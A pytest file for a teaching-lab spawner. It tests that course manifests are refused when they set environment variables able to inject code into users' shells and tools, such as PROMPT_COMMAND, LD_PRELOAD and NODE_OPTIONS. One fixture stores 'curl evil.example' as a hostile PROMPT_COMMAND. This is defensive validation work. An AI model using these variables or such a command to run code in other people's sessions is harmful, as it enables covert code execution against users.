"""What a course may set, what is refused where it is written, and what old manifests keep."""

from __future__ import annotations

import logging
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from pytorch_spawner.core.course_environment import allowed, is_the_labs, why_not
from pytorch_spawner.core.course_text import checked, from_json, from_yaml, parse_manifest
from pytorch_spawner.errors import BadRequest
from pytorch_spawner.ledger.store import Ledger
from pytorch_spawner.teaching import TeachingSpawner

LEAST = {"name": "cv", "title": "Vision", "source": {"git": "https://forge.org/cv.git"}}
# By which something else runs in everybody's shell, compiler, interpreter or tool.
RUN_FIRST = """
    PROMPT_COMMAND PS0 PS1 PS4 SHELLOPTS BASHOPTS INPUTRC ZDOTDIR MAILPATH
    EDITOR VISUAL PAGER MANPAGER SYSTEMD_EDITOR BROWSER LESSOPEN LESSCLOSE LESSKEY RSYNC_RSH
    SSH_ASKPASS TAR_OPTIONS
    CC CXX CFLAGS CUDA_HOME CUDACXX NVCC_PREPEND_FLAGS CPATH CMAKE_PREFIX_PATH
    CMAKE_TOOLCHAIN_FILE MAKEFLAGS TRITON_PTXAS_PATH TRITON_HOME TRITON_DUMP_DIR
    GCONV_PATH OPENSSL_CONF CUDA_INJECTION64_PATH NVTX_INJECTION64_PATH NCCL_NET_PLUGIN
    CUDA_CACHE_PATH
    MPLBACKEND MPLCONFIGDIR CONDA_PREFIX NPM_CONFIG_REGISTRY NODE_OPTIONS NODE_PATH
    PERL5OPT PERL5LIB PERLLIB RUBYOPT LUA_INIT
    JULIA_LOAD_PATH JULIA_DEPOT_PATH R_PROFILE R_PROFILE_USER R_ENVIRON_USER R_LIBS_USER
    JAVA_TOOL_OPTIONS _JAVA_OPTIONS CLASSPATH
    editor ps1
"""
# The lab's own ever since: no stored manifest holds one.
THE_LABS = """
    PATH HOME ENV LD_PRELOAD BASH_ENV NVIDIA_VISIBLE_DEVICES JUPYTER_CONFIG_DIR PYTHONSTARTUP
    PYTHONPATH IPYTHONDIR GIT_SSH_COMMAND GIT_EXTERNAL_DIFF GIT_PAGER PIP_INDEX_URL https_proxy
    TRITON_CACHE_DIR
"""
FREE = """
    OMP_NUM_THREADS OMP_WAIT_POLICY MKL_NUM_THREADS COURSE_SEED PYTHONHASHSEED PYTHONUNBUFFERED
    WANDB_MODE HF_HOME HF_HUB_OFFLINE TORCH_HOME TORCH_LOGS TORCH_COMPILE_DEBUG TORCHDYNAMO_VERBOSE
    TORCHINDUCTOR_MAX_AUTOTUNE TRITON_INTERPRET TRITON_DEBUG CUDA_LAUNCH_BLOCKING
    CUBLAS_WORKSPACE_CONFIG CUDA_MODULE_LOADING NCCL_DEBUG NODE_RANK WORLD_SIZE RANK MASTER_ADDR
    LESSON LESS_IS_MORE PS5 CCC EDITORIAL R2_BUCKET JULIA_NUM_THREADS JAVA PERLIN_SEED AS_OF TZ LANG
"""


@pytest.mark.parametrize("name", RUN_FIRST.split())
def test_what_runs_beside_a_persons_own_code_is_refused_where_a_manifest_is_written(
    name: str,
) -> None:
    said = {**LEAST, "environment": {"A": "1", name: "x"}}
    with pytest.raises(BadRequest) as refused:
        from_json(said)
    with pytest.raises(BadRequest) as in_a_file:
        from_yaml(f"name: cv\ntitle: V\nsource: {{git: 'ssh://x/y'}}\nenvironment: {{{name}: x}}\n")
    (problem,) = refused.value.problems
    assert (problem.field, in_a_file.value.problems[0].row) == ("environment", 4)
    assert problem.message == f"{name} decides what runs beside a person's own code"
    with pytest.raises(BadRequest):  # whatever else of a stored one is changed
        checked(parse_manifest(said))


@pytest.mark.parametrize("name", THE_LABS.split())
def test_what_is_the_labs_is_in_no_manifest_at_all(name: str) -> None:
    assert is_the_labs(name)
    with pytest.raises(BadRequest):
        parse_manifest({**LEAST, "environment": {name: "x"}})


@pytest.mark.parametrize("name", FREE.split())
def test_what_a_lesson_needs_may_be_set(name: str) -> None:
    assert why_not(name) == ""
    assert from_json({**LEAST, "environment": {name: "x"}}).environment == {name: "x"}


def test_of_an_old_manifest_only_what_may_be_set_is_and_the_rest_is_told() -> None:
    found, told = allowed({"A": "1", "PAGER": "x", "LD_PRELOAD": "y"})
    assert found == {"A": "1"}
    assert told == (
        "The course's variable PAGER is not set: it decides what runs beside a person's own code. "
        "Whoever teaches the course takes it out of the manifest's environment.",
        "The course's variable LD_PRELOAD is not set: it is set by the lab. "
        "Whoever teaches the course takes it out of the manifest's environment.",
    )


async def test_a_stored_course_that_sets_it_stays_and_its_starts_go_without(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    ledger = Ledger.open(f"sqlite:///{tmp_path}/ledger.sqlite")
    said = {**LEAST, "environment": {"COURSE_SEED": "17", "PROMPT_COMMAND": "curl evil.example"}}
    ledger.save_course("lab", parse_manifest(said), "bo")
    (course,) = ledger.courses("lab")
    assert course.manifest.environment == said["environment"]

    async def all_courses() -> list[Any]:
        return [course]

    async def has_no_volume(*_: object) -> bool:
        return False

    spawner: Any = SimpleNamespace(
        _all_courses=all_courses, _call=has_no_volume, _log_name="ana", _tried=None, course_data={},
        user=SimpleNamespace(name="ana", groups=[]), lab=SimpleNamespace(hub="lab"),
        log=logging.getLogger("test"),
    )  # fmt: skip
    taught, sentence = await TeachingSpawner.choose_course(spawner, "cv")
    assert taught.environment == {"COURSE_SEED": "17"}
    assert "PROMPT_COMMAND is not set" in caplog.text
    assert "evil" not in caplog.text
    assert "PROMPT_COMMAND" not in sentence, "a smoke test would fail by it"
    ledger.close()
